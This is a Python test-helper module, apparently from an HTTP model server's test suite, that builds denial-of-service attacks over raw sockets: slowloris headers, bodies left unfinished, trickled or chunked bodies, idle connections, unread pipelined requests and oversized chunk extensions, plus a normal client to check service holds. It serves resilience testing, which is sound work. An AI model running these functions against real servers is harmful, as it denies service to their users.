"""What one client can send, below and around HTTP, to keep others out; raw sockets, the standard library only.

Each attack is a function attack(address, ...) that opens what it needs and returns an Attack: the connections that it holds. The
attack lasts until its close(). tests/server/test_attacks.py and web.py say what others must still get meanwhile."""
import json
import socket
import time


class Attack:
    """Connections that are held open, and what the server has said on them so far."""

    def __init__(self, address, patience=30):
        self.address, self.patience, self.socks = address, patience, []

    def connect(self, source=None):
        sock = socket.create_connection(self.address, self.patience, source_address=(source, 0) if source else None)
        self.socks.append(sock)
        return sock

    def replies(self):
        """The status of each connection on which the server has answered, 0 where it was closed without a word; None: nothing yet."""
        return [status_of(sock) for sock in self.socks]

    def close(self):
        for sock in self.socks:
            sock.close()
        self.socks = []

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()


def status_of(sock):
    """Looks at what has come without taking it. A reply that was lost to a reset counts as closed."""
    sock.setblocking(False)
    try:
        data = sock.recv(16, socket.MSG_PEEK)
        return int(data.split()[1]) if data.startswith(b"HTTP/1.") else 0
    except BlockingIOError:
        return None
    except OSError:
        return 0
    finally:
        sock.setblocking(True)


def head(method, path, length=None, key=None, extra="", host="localhost"):
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
    if length is not None:
        lines += ["Content-Type: application/json", f"Content-Length: {length}"]
    if key:
        lines.append(f"Authorization: Bearer {key}")
    return ("\r\n".join(lines) + "\r\n" + extra + "\r\n").encode()


def send_all(sock, data):
    """Sends until the server has had enough. Returns how many bytes went out."""
    view, sent = memoryview(data), 0
    try:
        while sent < len(view):
            sent += sock.send(view[sent:sent + 262144])
    except OSError:
        pass
    return sent


def unfinished_bodies(address, path="/health", method="GET", count=17, n_bytes=16 * 1024 * 1024, missing=100, key=None, sources=(None,)):
    """Bodies that are sent but for their last bytes, from each address of sources in turn."""
    attack = Attack(address)
    body = b'{"prompt": "' + b"x" * (n_bytes - missing - 12)
    for i in range(count):
        sock = attack.connect(sources[i % len(sources)])
        sock.sendall(head(method, path, n_bytes, key))
        send_all(sock, body)
    return attack


def unfinished_chunks(address, path="/v1/completions", count=17, n_bytes=16 * 1024 * 1024, key=None):
    """The same in the chunked coding: no length is announced."""
    attack = Attack(address)
    chunk = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
    for _ in range(count):
        sock = attack.connect()
        sock.sendall(head("POST", path, key=key, extra="Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"))
        send_all(sock, chunk * (n_bytes // 0x10000 - 1))
    return attack


def unfinished_heads(address, count=1000, n_bytes=30000, sources=(None,)):
    """Heads without an end (slowloris)."""
    attack = Attack(address)
    for i in range(count):
        sock = attack.connect(sources[i % len(sources)])
        send_all(sock, b"GET /health HTTP/1.1\r\nHost: localhost\r\nX: " + b"x" * n_bytes)
    return attack


def resting(address, count=1000, sources=(None,)):
    """Connections that send nothing."""
    attack = Attack(address)
    for i in range(count):
        attack.connect(sources[i % len(sources)])
    return attack


def slow_body(address, path="/v1/completions", n_bytes=1024 * 1024, seconds=10.0, pause=0.2, key=None):
    """A body of which a byte comes now and then. Returns the seconds until the server ends it, and its status."""
    with Attack(address) as attack:
        sock, began = attack.connect(), time.monotonic()
        sock.sendall(head("POST", path, n_bytes, key))
        while status_of(sock) is None and time.monotonic() - began < seconds:
            send_all(sock, b" ")
            time.sleep(pause)
        return time.monotonic() - began, status_of(sock)


def pipeline(address, count=10000):
    """Requests sent ahead whose replies nobody reads."""
    attack = Attack(address)
    sock = attack.connect()
    sock.settimeout(1)
    send_all(sock, head("GET", "/v1/models") * count)
    return attack


def chunk_extensions(address, path="/tokenize", count=5000, key=None):
    """Chunks of one byte, each with as long an extension as a line holds. Returns the status."""
    body = json.dumps({"prompt": "x" * count}).encode()
    with Attack(address) as attack:
        sock = attack.connect()
        sock.sendall(head("POST", path, key=key, extra="Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"))
        send_all(sock, b"".join(b"1;" + b"x" * 200 + b"\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n")
        return wait_for_status(sock, attack.patience)


def wait_for_status(sock, seconds):
    end = time.monotonic() + seconds
    while (status := status_of(sock)) is None and time.monotonic() < end:
        time.sleep(0.005)
    return status


def fetch(address, path="/health", method="GET", body=None, key=None, source=None, patience=30):
    """A well-behaved client's request, over a connection of its own. Returns (status, body, seconds)."""
    began = time.monotonic()
    data = json.dumps(body).encode() if body is not None else b""
    with socket.create_connection(address, patience, source_address=(source, 0) if source else None) as sock:
        sock.sendall(head(method, path, len(data) if body is not None else None, key, "Connection: close\r\n") + data)
        reply = b""
        while (piece := sock.recv(65536)):
            reply += piece
    head_lines, content = reply.split(b"\r\n\r\n", 1)
    return int(head_lines.split()[1]), content, time.monotonic() - began


def ask(*args, **more):
    """The status alone."""
    return fetch(*args, **more)[0]
